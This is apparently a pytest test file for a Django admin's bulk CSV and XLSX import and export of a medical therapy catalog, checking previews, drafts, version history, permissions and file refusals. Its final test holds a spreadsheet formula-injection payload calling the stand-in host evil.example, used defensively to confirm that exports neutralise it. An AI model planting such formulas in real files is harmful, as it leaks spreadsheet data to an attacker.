"""The admin's bulk import and export (catalog/transfer/) through the test client on the real
database: a dry run whose preview lists every bad row's problems and writes nothing, then a
confirmed import whose new rows are drafts with a version each ("Imported from …"); XLSX as
CSV; exports of the changelist's filtered rows that import back unchanged; who may import; and
files the import cannot read refused with a message."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext

from catalog.models import (
    Condition,
    Indication,
    SearchTerm,
    Therapy,
    TherapyClass,
    TherapyName,
)

from .helpers import admin_url, make_user, page_text

pytestmark = pytest.mark.django_db

CSV_FORMAT, XLSX_FORMAT = "0", "1"
THERAPIES, NAMES = "0", "1"  # the therapy changelist's two resources


@pytest.fixture
def editor_client(client):
    client.force_login(make_user("ed", "Editors"))
    return client


def csv_file(name, rows, encoding="utf-8"):
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return SimpleUploadedFile(name, out.getvalue().encode(encoding), content_type="text/csv")


def xlsx_file(name, rows):
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return SimpleUploadedFile(name, out.getvalue())


def preview(client, model, upload, file_format=CSV_FORMAT, resource=None):
    """The dry run: the page showing the preview or the problems."""
    data = {"import_file": upload, "format": file_format}
    if resource is not None:
        data["resource"] = resource
    response = client.post(admin_url(model, "import"), data)
    assert response.status_code == 200, response.content[:500]
    return response


def confirm(client, model, response):
    """Confirm the import the preview `response` offers."""
    form = response.context["confirm_form"]
    data = {name: form.initial.get(name, "") for name in form.fields}
    done = client.post(admin_url(model, "process_import"), data, follow=True)
    assert done.status_code == 200
    return done


def problems(response):
    """The problems the preview lists, one line each."""
    return [str(line) for line in response.context["result"].problems]


NAME_HEADINGS = ["therapy", "name", "kind"]
BIOSIMILARS = [["rituximab", "Truxima", "brand"], ["rituximab", "Ruxience", "Brand name"]]


def test_a_names_file_with_one_bad_row_writes_nothing_then_imports_as_fixed_with_a_version_each(
    editor_client,
):
    bad = [*BIOSIMILARS, ["rituximabb", "Riabni", "brand"]]
    response = preview(
        editor_client, Therapy, csv_file("names.csv", [NAME_HEADINGS, *bad]), resource=NAMES
    )
    text = page_text(response)
    assert "Nothing was imported: 1 problem" in text
    assert "Row 4, therapy: no therapy with the address “rituximabb”" in text
    assert "confirm_form" not in response.context
    assert not TherapyName.objects.filter(name__in=["Truxima", "Ruxience", "Riabni"]).exists()
    assert not TherapyName.history.filter(name="Truxima").exists()

    fixed = [*BIOSIMILARS, ["rituximab", "Riabni", "brand"]]
    response = preview(
        editor_client, Therapy, csv_file("names.csv", [NAME_HEADINGS, *fixed]), resource=NAMES
    )
    assert "3 new, 0 changed, 0 unchanged." in page_text(response)
    assert not TherapyName.objects.filter(name="Truxima").exists()  # a dry run only
    done = confirm(editor_client, Therapy, response)
    assert "Import finished" in page_text(done)
    rituximab = Therapy.objects.get(slug="rituximab")
    assert {"Truxima", "Ruxience", "Riabni"} <= set(rituximab.brand_names)
    for name in ("Truxima", "Ruxience", "Riabni"):
        (version,) = TherapyName.history.filter(name=name)
        assert version.history_type == "+"
        assert version.history_change_reason == "Imported from names.csv"
        assert version.history_user.username == "ed"
    # Search finds the therapy by its new brand name.
    assert SearchTerm.objects.filter(therapy=rituximab, key="truxima", relation="brand").exists()


THERAPY_HEADINGS = ["address", "name", "therapy_class", "summary", "description", "sources"]


def new_therapy(slug, name, therapy_class="monoclonal-antibodies"):
    return [slug, name, therapy_class, f"{name} is a test therapy.", "", "drugscom-immunotherapy"]


def test_an_xlsx_of_therapies_with_one_bad_row_writes_nothing_then_imports_them_as_drafts(
    editor_client,
):
    klass = TherapyClass.objects.first().slug
    rows = [
        [*THERAPY_HEADINGS, "status"],
        [*new_therapy("test-one", "Testumab one", klass), "published"],
        [*new_therapy("test-two", "Testumab two", "interferon"), "published"],
    ]
    response = preview(
        editor_client, Therapy, xlsx_file("therapies.xlsx", rows), XLSX_FORMAT, THERAPIES
    )
    assert problems(response) == [
        "Row 3, therapy_class: no therapy class with the address “interferon”"
    ]
    assert not Therapy.objects.filter(slug__startswith="test-").exists()

    rows[2] = [*new_therapy("test-two", "Testumab two", klass), "published"]
    response = preview(
        editor_client, Therapy, xlsx_file("therapies.xlsx", rows), XLSX_FORMAT, THERAPIES
    )
    assert "2 new, 0 changed, 0 unchanged." in page_text(response)
    confirm(editor_client, Therapy, response)
    imported = Therapy.objects.filter(slug__startswith="test-")
    assert sorted(imported.values_list("name", "status")) == [
        ("Testumab one", "draft"),
        ("Testumab two", "draft"),
    ]
    assert [s.slug for s in imported.get(slug="test-one").sources.all()] == [
        "drugscom-immunotherapy"
    ]
    for therapy in imported:
        (version,) = therapy.history.all()  # one version, its sources included
        assert version.history_type == "+"
        assert version.history_change_reason == "Imported from therapies.xlsx"
        assert version.history_user.username == "ed"
        assert [row.source.slug for row in version.sources.all()] == ["drugscom-immunotherapy"]


def test_an_imported_change_to_a_published_therapy_keeps_it_published_and_reviewed(
    editor_client,
):
    rituximab = Therapy.objects.get(slug="rituximab")
    assert rituximab.is_published
    reviewed = rituximab.last_reviewed
    rows = [
        ["address", "name", "therapy_class", "summary", "last_reviewed", "status"],
        [
            "rituximab",
            "Rituximab",
            rituximab.therapy_class.slug,
            "A new summary.",
            "2020-01-01",
            "draft",
        ],
    ]
    response = preview(editor_client, Therapy, csv_file("t.csv", rows), resource=THERAPIES)
    assert "0 new, 1 changed, 0 unchanged." in page_text(response)
    confirm(editor_client, Therapy, response)
    rituximab.refresh_from_db()
    assert (rituximab.summary, rituximab.status) == ("A new summary.", "published")
    assert rituximab.last_reviewed == reviewed


def test_a_name_is_compared_as_search_compares_names(editor_client):
    rows = [THERAPY_HEADINGS, new_therapy("rituximab-2", "RITUXIMAB")]
    response = preview(editor_client, Therapy, csv_file("t.csv", rows), resource=THERAPIES)
    assert problems(response) == ["Row 2, name: “Rituximab” (rituximab) already has this name"]
    brand = TherapyName.objects.filter(kind="brand", therapy__slug="rituximab").first()
    rows = [NAME_HEADINGS, ["rituximab", brand.name.upper(), "brand"]]
    response = preview(editor_client, Therapy, csv_file("n.csv", rows), resource=NAMES)
    assert "0 new, 1 changed, 0 unchanged." in page_text(response)


def export(client, model, query="", file_format=CSV_FORMAT, resource="0"):
    response = client.post(
        admin_url(model, "export") + query, {"format": file_format, "resource": resource}
    )
    assert response.status_code == 200, response.content[:500]
    assert "attachment" in response["Content-Disposition"]
    return response


def test_export_gives_the_changelists_filtered_rows_in_the_import_columns(editor_client):
    klass = Therapy.objects.get(slug="rituximab").therapy_class
    expected = set(Therapy.objects.filter(therapy_class=klass).values_list("slug", flat=True))
    assert 0 < len(expected) < Therapy.objects.count()
    response = export(editor_client, Therapy, f"?therapy_class__id__exact={klass.pk}")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert response.content.startswith("\ufeff".encode())  # Excel reads it as UTF-8
    assert list(rows[0]) == THERAPY_HEADINGS
    assert {row["address"] for row in rows} == expected
    assert {row["therapy_class"] for row in rows} == {klass.slug}
    # A search: only what it finds; the names of the therapies shown.
    response = export(editor_client, Therapy, "?q=rituximab", resource=NAMES)
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert {row["therapy"] for row in rows} == {"rituximab"}
    assert list(rows[0]) == NAME_HEADINGS
    # An XLSX export opens as a workbook with the same columns.
    response = export(editor_client, Indication, "?q=rituximab", XLSX_FORMAT)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    headings = [cell.value for cell in next(sheet.iter_rows())]
    assert headings[:3] == ["therapy", "therapy_class", "condition"]
    assert "line_of_therapy" in headings


@pytest.mark.parametrize(
    ("model", "resources"),
    [(Therapy, [THERAPIES, NAMES]), (Condition, ["0"]), (Indication, ["0"])],
)
def test_an_export_imported_back_unchanged_changes_nothing(editor_client, model, resources):
    for resource in resources:
        exported = export(editor_client, model, resource=resource).content
        history = model.history.count() + TherapyName.history.count()
        upload = SimpleUploadedFile("back.csv", exported)
        response = preview(editor_client, model, upload, resource=resource)
        text = page_text(response)
        assert "0 new, 0 changed," in text, problems(response)
        confirm(editor_client, model, response)
        assert model.history.count() + TherapyName.history.count() == history


def test_reviewers_may_export_but_not_import(client):
    client.force_login(make_user("rev", "Reviewers"))
    changelist = client.get(admin_url(Therapy, "changelist"))
    assert ">Export</a>" in changelist.content.decode()
    assert ">Import</a>" not in changelist.content.decode()
    assert "Due for review" in changelist.content.decode()
    refused = client.get(admin_url(Therapy, "import"))
    assert refused.status_code == 403
    assert "403 Forbidden" in page_text(refused)
    upload = csv_file("names.csv", [NAME_HEADINGS, *BIOSIMILARS])
    refused = client.post(admin_url(Therapy, "import"), {"import_file": upload, "format": "0"})
    assert refused.status_code == 403
    assert not TherapyName.objects.filter(name="Truxima").exists()


def test_editors_see_import_and_export_on_the_changelists(editor_client):
    for model in (Therapy, Condition, Indication):
        page = editor_client.get(admin_url(model, "changelist")).content.decode()
        assert ">Import</a>" in page and ">Export</a>" in page
    page = editor_client.get(admin_url(Therapy, "import"))
    assert "New records are imported as drafts" in page_text(page)
    formats = [label for _, label in page.context["form"].fields["format"].choices]
    assert formats == ["---", "csv", "xlsx"]


def refusal(response):
    return " ".join(response.context["form"].errors.get("import_file", []))


def test_files_the_import_cannot_read_are_refused_with_a_message(editor_client):
    post = lambda upload, fmt=CSV_FORMAT: editor_client.post(  # noqa: E731
        admin_url(Therapy, "import"), {"import_file": upload, "format": fmt, "resource": NAMES}
    )
    response = post(SimpleUploadedFile("names.pdf", b"%PDF-1.4"))
    assert response.status_code == 200
    assert "“names.pdf” is not a CSV or XLSX file" in refusal(response)

    response = post(SimpleUploadedFile("names.xlsx", b"therapy,name\n"), XLSX_FORMAT)
    assert "could not be read as the format chosen" in refusal(response)

    response = post(SimpleUploadedFile("names.csv", b"x"), XLSX_FORMAT)
    assert "“names.csv” is not a XLSX file" in refusal(response)

    latin1 = csv_file("names.csv", [NAME_HEADINGS, ["rituximab", "Rituxán", "brand"]], "latin-1")
    response = post(latin1)
    assert "The file is not UTF-8 text" in refusal(response)

    response = post(csv_file("names.csv", [["therapy", "name"], ["rituximab", "Truxima"]]))
    assert response.status_code == 200
    assert "The file has no column “kind”." in page_text(response)

    big = SimpleUploadedFile("names.csv", b"therapy,name,kind\n" + b"x" * (2 * 1024 * 1024))
    response = post(big)
    assert "import at most 2 MB at a time" in refusal(response)

    many = csv_file(
        "names.csv", [NAME_HEADINGS] + [["rituximab", f"N{i}", "brand"] for i in range(1001)]
    )
    response = post(many)
    assert "The file has more than 1000 rows: import at most 1000 at a time" in page_text(response)
    assert not TherapyName.objects.filter(name="N1").exists()


def test_a_workbook_longer_than_the_limit_is_refused_and_blank_rows_are_left_out(editor_client):
    rows = [NAME_HEADINGS] + [["rituximab", f"N{i}", "brand"] for i in range(1500)]
    response = preview(editor_client, Therapy, xlsx_file("n.xlsx", rows), XLSX_FORMAT, NAMES)
    assert problems(response) == [
        "The file has more than 1000 rows: import at most 1000 at a time (split the file)."
    ]
    rows = [NAME_HEADINGS, BIOSIMILARS[0], [None, None, None], BIOSIMILARS[1], [None] * 3]
    response = preview(editor_client, Therapy, xlsx_file("n.xlsx", rows), XLSX_FORMAT, NAMES)
    assert "2 new, 0 changed, 0 unchanged." in page_text(response)


def test_a_description_keeps_its_paragraphs_and_a_name_its_single_spaces(editor_client):
    rows = [
        THERAPY_HEADINGS,
        ["", "  Testumab   three ", "monoclonal-antibodies", "A test.", "One.\r\n\r\nTwo.", ""],
    ]
    response = preview(editor_client, Therapy, csv_file("t.csv", rows), resource=THERAPIES)
    confirm(editor_client, Therapy, response)
    therapy = Therapy.objects.get(slug="testumab-three")
    assert (therapy.name, therapy.description) == ("Testumab three", "One.\n\nTwo.")


@pytest.mark.parametrize(
    ("model", "resource"),
    [(Therapy, THERAPIES), (Therapy, NAMES), (Condition, "0"), (Indication, "0")],
)
def test_an_export_reads_its_rows_in_a_fixed_number_of_queries(
    editor_client, make_catalog, model, resource
):
    def queries():
        with CaptureQueriesContext(connection) as captured:
            export(editor_client, model, resource=resource)
        return len(captured)

    before, rows = queries(), model.objects.count()
    make_catalog(30)
    assert model.objects.count() > rows
    assert queries() == before


INDICATION_HEADINGS = ["therapy", "therapy_class", "condition", "qualifier", "severity", "note"]


def test_indications_import_by_their_ends_with_their_limits_and_each_problem_named(
    editor_client,
):
    klass, other_class = TherapyClass.objects.values_list("slug", flat=True)[:2]
    condition = (
        Condition.objects.exclude(indications__therapy__slug="rituximab")
        .exclude(indications__therapy_class__slug__in=[klass, other_class])
        .first()
    )
    rows = [
        ["Therapy", "Therapy class", "Condition", "Qualifier", "Severity", "Note"],
        ["", klass, condition.slug, "May help", "severe", "In trials."],
        ["rituximab", other_class, condition.slug, "", "", ""],
        ["", "", "no-such-condition", "often", "very", ""],
    ]
    response = preview(editor_client, Indication, csv_file("uses.csv", rows))
    assert problems(response) == [
        "Row 3: Choose either a therapy or a therapy class, not both.",
        "Row 4, condition: no condition with the address “no-such-condition”",
        "Row 4, qualifier: “often” is not one of may-be-effective, may-help, "
        "other-agents-failed, conventional-drugs-failed, have-been-used (or empty)",
        "Row 4, severity: “very” is not one of moderate-to-severe, active, severe, advanced, "
        "metastatic (or empty)",
        "Row 4: Choose either a therapy or a therapy class, not both.",
    ]
    response = preview(editor_client, Indication, csv_file("uses.csv", rows[:2]))
    assert "1 new, 0 changed, 0 unchanged." in page_text(response)
    confirm(editor_client, Indication, response)
    use = Indication.objects.get(therapy_class__slug=klass, condition=condition)
    assert (use.qualifier, use.severity, use.note, use.status) == (
        "may-help",
        "severe",
        "In trials.",
        "draft",
    )


@pytest.mark.parametrize("redis_url", ["", "redis://the-shared-cache"], ids=["folder", "cache"])
def test_the_file_waits_for_confirm_and_a_confirm_whose_file_is_gone_says_so(
    editor_client, settings, redis_url
):
    """Kept in the temporary folder on one server, in the shared cache with Redis (the tests'
    cache stands for it)."""
    settings.REDIS_URL = redis_url
    upload = csv_file("names.csv", [NAME_HEADINGS, *BIOSIMILARS])
    confirm(editor_client, Therapy, preview(editor_client, Therapy, upload, resource=NAMES))
    assert TherapyName.objects.filter(name="Truxima").count() == 1
    upload = csv_file("names.csv", [NAME_HEADINGS, *BIOSIMILARS])
    response = preview(editor_client, Therapy, upload, resource=NAMES)
    form = response.context["confirm_form"]
    data = {name: form.initial.get(name, "") for name in form.fields}
    data["import_file_name"] = "tmp-no-longer-kept"
    done = editor_client.post(admin_url(Therapy, "process_import"), data, follow=True)
    assert done.status_code == 200
    assert "The file previewed is no longer kept: import it again, then confirm." in page_text(done)
    assert done.redirect_chain[-1][0] == admin_url(Therapy, "import")
    assert TherapyName.objects.filter(name="Truxima").count() == 1


def test_a_file_gone_bad_between_preview_and_confirm_writes_nothing_and_says_why(editor_client):
    rows = [NAME_HEADINGS, *BIOSIMILARS, ["infliximab", "Inflectra", "brand"]]
    response = preview(editor_client, Therapy, csv_file("n.csv", rows), resource=NAMES)
    assert "3 new, 0 changed, 0 unchanged." in page_text(response)
    Therapy.objects.filter(slug="infliximab").update(slug="infliximab-renamed")
    done = confirm(editor_client, Therapy, response)
    assert done.redirect_chain[-1][0] == admin_url(Therapy, "import")
    assert (
        "Nothing was imported: since the preview, the file stopped importing cleanly (Row 4, "
        "therapy: no therapy with the address “infliximab”). Import it again to see every problem."
    ) in page_text(done)
    assert not TherapyName.objects.filter(name__in=["Truxima", "Ruxience", "Inflectra"]).exists()


def test_a_long_file_name_is_shortened_in_the_history(editor_client):
    name = "biosimilars-" + "x" * 150 + ".csv"
    response = preview(
        editor_client, Therapy, csv_file(name, [NAME_HEADINGS, *BIOSIMILARS]), resource=NAMES
    )
    confirm(editor_client, Therapy, response)
    (version,) = TherapyName.history.filter(name="Truxima")
    reason = version.history_change_reason
    assert reason.startswith("Imported from biosimilars-xxx") and reason.endswith("…")
    assert len(reason) == 100


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
def test_an_export_never_writes_a_live_formula_and_imports_back_unchanged(
    editor_client, file_format
):
    """Hostile text in a record (a summary starting with "=") is written as text: with the
    leading quote the site's other CSV exports use, and read back without it."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    Therapy.objects.filter(slug="rituximab").update(summary=hostile)
    response = export(editor_client, Therapy, "?q=rituximab", file_format)
    if file_format == CSV_FORMAT:
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
        cells = [row["summary"] for row in rows]
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        column = [cell.value for cell in next(sheet.iter_rows())].index("summary")
        cells = [row[column].value for row in list(sheet.iter_rows())[1:]]
        assert all(row[column].data_type == "s" for row in list(sheet.iter_rows())[1:])
    assert cells == [f"'{hostile}"]
    history = Therapy.history.count()
    name = "back.csv" if file_format == CSV_FORMAT else "back.xlsx"
    response = preview(
        editor_client, Therapy, SimpleUploadedFile(name, response.content), file_format
    )
    assert "0 new, 0 changed," in page_text(response), problems(response)
    confirm(editor_client, Therapy, response)
    assert Therapy.objects.get(slug="rituximab").summary == hostile
    assert Therapy.history.count() == history
